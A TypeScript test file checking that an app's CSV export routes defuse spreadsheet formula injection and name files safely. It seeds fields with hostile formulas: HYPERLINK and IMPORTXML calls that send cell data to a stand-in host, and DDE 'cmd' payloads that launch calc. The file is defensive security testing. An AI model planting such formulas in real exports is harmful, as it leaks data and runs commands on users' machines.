// Formula injection through CSV exports: with a brand, a market, a channel name, a flag's
// note, a plan's name and a publish reason that a spreadsheet would run as formulas, every
// CSV export route (found in the route table, so a new one must be added here) answers a
// file in which no text cell starts with = + - @, a tab or a carriage return unless it is
// a plain number; the hostile texts are still there, behind a leading quote. The file
// names in Content-Disposition hold no quotes or line breaks.
import { eq } from "drizzle-orm";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { planSchema } from "@tributary/contracts";
import { brands, channels, markets, runs } from "../db/schema";
import { routeTable } from "../routes";
import { fittedWorld, newFlag, scenarioInput, splitInput, type World } from "../testing/fitted-world";

const hostile = {
  brand: '=HYPERLINK("https://x.example/steal?d="&A1,"Kestrova")',
  market: "+Veltria|' /C calc'!A0",
  channel: "@SUM(1+1)*cmd|' /C calc'!A0",
  flag: "-2+3+cmd|' /C calc'!A0",
  plan: "\t=1+1 plan",
  reason: "\r=IMPORTXML(CONCAT(\"https://x.example/?\",A1),\"//a\") quick fit",
};

let w: World;
let kv: string;
let scenario: string;
let split: string;
beforeAll(async () => {
  w = await fittedWorld();
  kv = w.cellId.get("Kestrova × Veltria")!;
  const pv = w.cellId.get("Plumrise × Veltria")!;
  // Plans first: they are computed on the names as the run knows them.
  scenario = planSchema.parse((await w.agents.analyst.post("/api/plans/scenarios").send({ ...(await scenarioInput(w, [kv, pv])), name: hostile.plan }).expect(201)).body).id;
  split = planSchema.parse((await w.agents.analyst.post("/api/plans/budget-splits").send({ ...(await splitInput(w, [kv, pv])), name: hostile.plan }).expect(201)).body).id;
  await w.db.update(brands).set({ name: hostile.brand }).where(eq(brands.id, w.brandId.get("Kestrova")!));
  await w.db.update(markets).set({ name: hostile.market }).where(eq(markets.id, w.marketId.get("Veltria")!));
  await w.db.update(channels).set({ name: hostile.channel }).where(eq(channels.code, "search"));
  await w.db.update(runs).set({ publishReason: hostile.reason }).where(eq(runs.id, w.publishedRunId));
  await newFlag(w, "Kestrova × Veltria", "search", hostile.flag);
});
afterAll(() => w.close());

/** Every CSV export, with each of its tables. */
function exportUrls(): Record<string, string[]> {
  const sheet = `/api/dashboards/channel-sheet/${kv}/search/export.csv`;
  return {
    "/api/dashboards/portfolio-map/export.csv": ["/api/dashboards/portfolio-map/export.csv", "/api/dashboards/portfolio-map/export.csv?channel=search"],
    "/api/dashboards/brand-comparison/export.csv": ["/api/dashboards/brand-comparison/export.csv"],
    "/api/dashboards/market-desk/export.csv": ["estimates", "changes", "plans"].map((t) => `/api/dashboards/market-desk/export.csv?table=${t}`),
    "/api/dashboards/channel-sheet/:cellId/:channel/export.csv": ["response-curve", "carry-over", "contribution", "profit-draws"].map((t) => `${sheet}?table=${t}`),
    "/api/dashboards/pooling-review/export.csv": ["estimates", "pooling-factors", "outliers"].map((t) => `/api/dashboards/pooling-review/export.csv?table=${t}`),
    "/api/flags/export.csv": ["/api/flags/export.csv"],
    "/api/plans/:planId/allocation.csv": [`/api/plans/${scenario}/allocation.csv`, `/api/plans/${split}/allocation.csv`],
    "/api/plans/:planId/forecast.csv": [`/api/plans/${scenario}/forecast.csv`, `/api/plans/${split}/forecast.csv`],
    "/api/datasets/example.csv": ["/api/datasets/example.csv"],
  };
}

const plainNumber = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

describe("CSV exports and formula injection", () => {
  it("the list covers every CSV route of the route table", () => {
    const csvRoutes = routeTable.filter((route) => route.path.endsWith(".csv")).map((route) => route.path);
    expect(csvRoutes.sort()).toEqual(Object.keys(exportUrls()).sort());
  });

  it("every export neutralises formula-like text, keeps numbers as numbers, and names its file safely", async () => {
    const seen = new Set<string>();
    for (const [route, urls] of Object.entries(exportUrls())) {
      for (const url of urls) {
        const response = await w.agents.admin.get(url).buffer(true).parse((res, done) => {
          let text = "";
          res.setEncoding("utf8");
          res.on("data", (chunk: string) => (text += chunk));
          res.on("end", () => done(null, text));
        });
        expect(response.status, `${url}: ${String(response.body).slice(0, 200)}`).toBe(200);
        expect(response.headers["content-type"], url).toMatch(/^text\/csv/);
        const disposition = String(response.headers["content-disposition"]);
        expect(disposition, url).toMatch(/^attachment; filename="[A-Za-z0-9._-]+"$/);
        const text = String(response.body).replace(/^\uFEFF/, "");
        const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
        expect(rows.length, url).toBeGreaterThan(0);
        for (const [r, row] of rows.entries()) {
          for (const [c, cell] of row.entries()) {
            if (/^[=+\-@\t\r]/.test(cell)) expect(cell, `${route}: ${url} row ${r + 1}, column ${c + 1}`).toMatch(plainNumber);
            for (const [what, value] of Object.entries(hostile)) if (cell.includes(`'${value}`)) seen.add(what);
          }
        }
      }
    }
    // The hostile texts did reach the exports (neutralised), so the check above had something to catch.
    // (Exports name channels by display name; plans appear only in the file name.)
    expect([...seen].sort()).toEqual(["brand", "channel", "flag", "market", "reason"]);
  });
});
